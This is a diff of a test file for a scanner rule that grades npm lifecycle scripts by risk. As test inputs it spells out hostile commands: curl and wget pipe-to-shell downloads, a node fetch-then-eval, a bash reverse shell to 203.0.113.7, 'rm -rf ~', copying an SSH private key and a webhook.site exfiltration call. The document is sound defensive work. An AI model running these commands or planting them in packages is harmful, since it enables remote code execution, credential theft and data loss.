@@ -10,13 +10,14 @@ describe(RULE, () => {
   it('reports each lifecycle script where npm runs it, by how risky its text is', async () => {
     const bundle = await scanFixture(`${DIR}/invalid.dxt`);
     expect(findingsOf(bundle, RULE)).toHaveLength(8);
-    expect(findingWith(bundle, RULE, 'The postinstall script of package "acme-server" pipes text into a shell')).toMatchObject({
-      severity: 'high',
+    expect(findingWith(bundle, RULE, 'The postinstall script of package "acme-server" downloads code and runs it (curl … | sh)')).toMatchObject({
+      severity: 'critical',
       location: { file: 'server/package.json', line: 7, column: 5 },
       origin: 'first-party',
       evidence: 'curl -fsSL https://example.invalid/setup.sh | sh',
+      trigger: { kind: 'install', name: 'postinstall' },
     });
-    expect(findingWith(bundle, RULE, 'acme-server" pipes').message).toContain('it runs when `npm install` runs in its folder');
+    expect(findingWith(bundle, RULE, 'acme-server" downloads').message).toContain('it runs when `npm install` runs in its folder');
     expect(findingWith(bundle, RULE, 'package "sneaky" (through its "setup" script) runs inline code that names a network address')).toMatchObject({
       severity: 'high',
       location: { file: 'server/node_modules/sneaky/package.json', line: 5, column: 5 },
@@ -26,7 +27,7 @@ describe(RULE, () => {
       severity: 'low',
       evidence: 'node track.js',
     });
-    expect(findingWith(bundle, RULE, 'The install script of package "native-dep" only runs common build tools').severity).toBe('info');
+    expect(findingWith(bundle, RULE, 'The install script of package "native-dep" only runs common build tools')).toMatchObject({ severity: 'info', trigger: { kind: 'install', name: 'install' } });
     expect(findingWith(bundle, RULE, 'The install script of package "prebuilt-dep" installs a prebuilt native binary').severity).toBe('low');
     expect(findingWith(bundle, RULE, 'The prepare script of package "acme-server" only runs common build tools').severity).toBe('info');
     expect(findingWith(bundle, RULE, 'The preuninstall script of package "acme-server" runs only in npm 6 and earlier')).toMatchObject({
@@ -46,10 +47,29 @@ describe(RULE, () => {
   it('reports a dangerous hook even where npm would not run it, since it shows intent', () => {
     const findings = runRule(
       rule,
-      bundleFacts({ 'node_modules/evil/package.json': { name: 'evil', scripts: { prepare: 'curl -s https://example.invalid/x | bash', preuninstall: 'bash -c "rm -rf ~"' } } }),
+      bundleFacts({
+        'node_modules/evil/package.json': { name: 'evil', scripts: { prepare: 'curl -s https://example.invalid/x | bash', preuninstall: 'bash -c "rm -rf ~"', postuninstall: 'bash -c "node x.js"' } },
+      }),
     );
-    expect(findings).toHaveLength(1);
-    expect(findings[0]).toMatchObject({ severity: 'high', message: expect.stringContaining('it runs only when the package is installed from a git repository or a folder') });
+    expect(findings).toHaveLength(2);
+    expect(findings[0]).toMatchObject({ severity: 'critical', message: expect.stringContaining('it runs only when the package is installed from a git repository or a folder') });
+    expect(findings[1]).toMatchObject({
+      severity: 'critical',
+      message: 'The preuninstall script of package "evil" deletes what cannot be restored (recursive delete of ~): "rm -rf ~"; it runs only in npm 6 and earlier, on removal.',
+    });
+  });
+
+  it('judges a shell script of the bundle that a hook runs, by what it does', async () => {
+    const bundle = await scanFixture(`${DIR}/invalid-shipped-script`);
+    expect(findingsOf(bundle, RULE)).toHaveLength(2);
+    expect(findingWith(bundle, RULE, 'The postinstall script of package "acme-notes" runs server/scripts/setup.sh, which downloads code and runs it (curl … | sh, line 4)')).toMatchObject({
+      severity: 'critical',
+      location: { file: 'server/package.json', line: 5, column: 5 },
+      evidence: 'sh scripts/setup.sh',
+      trigger: { kind: 'install', name: 'postinstall' },
+    });
+    // A shell script that only builds leaves the hook where it was.
+    expect(findingWith(bundle, RULE, 'The install script of package "native-thing" runs when the package is installed or rebuilt.')).toMatchObject({ severity: 'low' });
   });
 });
 
@@ -102,15 +122,24 @@ describe('assessScript', () => {
     return via === undefined ? { severity, kind } : { severity, kind, via };
   };
 
+  // What the command catalogue calls download-and-run, a reverse shell or wiping.
   it.each([
-    ['curl -fsSL https://example.invalid/i.sh | sh'],
-    ['curl https://example.invalid/i.sh | sudo bash'],
-    ['wget -q https://example.invalid/a -O /tmp/a && chmod +x /tmp/a && /tmp/a'],
+    ['curl -fsSL https://example.invalid/i.sh | sh', 'download-and-run'],
+    ['curl https://example.invalid/i.sh | sudo bash', 'download-and-run'],
+    ['wget -q https://example.invalid/a -O /tmp/a && chmod +x /tmp/a && /tmp/a', 'download-and-run'],
+    ['iwr https://example.invalid/a.ps1 -OutFile a.ps1; ./a.ps1', 'download-and-run'],
+    ["node -e \"fetch('https://example.invalid/p').then((r) => r.text()).then(eval)\"", 'download-and-run'],
+    ['certutil -urlcache -split -f https://example.invalid/a.exe a.exe', 'download-and-run'],
+    ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 'reverse-shell'],
+    ['rm -rf ~/', 'destructive'],
+  ])('%s is critical (%s)', (script, kind) => {
+    expect(assessScript('postinstall', { postinstall: script })).toMatchObject({ severity: 'critical', kind: 'risky', signal: { kind } });
+  });
+
+  it.each([
     ['powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'],
     ['powershell -ExecutionPolicy Bypass -EncodedCommand SQBFAFgA'],
-    ['iwr https://example.invalid/a.ps1 -OutFile a.ps1; ./a.ps1'],
     ['powershell -c "Invoke-WebRequest https://example.invalid/a.exe -OutFile a.exe"'],
-    ["node -e \"fetch('https://example.invalid/p').then((r) => r.text()).then(eval)\""],
     ['echo aGVsbG8gd29ybGQ= | base64 -d > x.js && node x.js'],
     ['node -e "eval(String.fromCharCode(99,111,110))"'],
     ['cp ~/.ssh/id_rsa /tmp/k'],
@@ -118,7 +147,6 @@ describe('assessScript', () => {
     ['echo "node ~/.x.js" >> ~/.bashrc'],
     ['node -e "require(\'https\').request(\'https://webhook.site/abc\')"'],
     ['node x.js http://203.0.113.7/p'],
-    ['certutil -urlcache -split -f https://example.invalid/a.exe a.exe'],
   ])('%s is high', (script) => {
     expect(verdict(script)).toMatchObject({ severity: 'high', kind: 'risky' });
   });
@@ -148,7 +176,7 @@ describe('assessScript', () => {
   });
 
   it('follows npm run, pnpm and yarn into the scripts they name, once each', () => {
-    expect(verdict('npm run setup', { setup: 'npm run fetch', fetch: 'curl https://example.invalid/x | sh' })).toEqual({ severity: 'high', kind: 'risky', via: 'fetch' });
+    expect(verdict('npm run setup', { setup: 'npm run fetch', fetch: 'curl https://example.invalid/x | sh' })).toEqual({ severity: 'critical', kind: 'risky', via: 'fetch' });
     expect(verdict('yarn setup', { setup: 'wget https://example.invalid/x' })).toEqual({ severity: 'high', kind: 'risky', via: 'setup' });
     expect(verdict('pnpm run a', { a: 'npm run b', b: 'npm run a' })).toEqual({ severity: 'low', kind: 'script' });
     expect(verdict('npm run build', { build: 'node-gyp rebuild' })).toEqual({ severity: 'info', kind: 'build' });
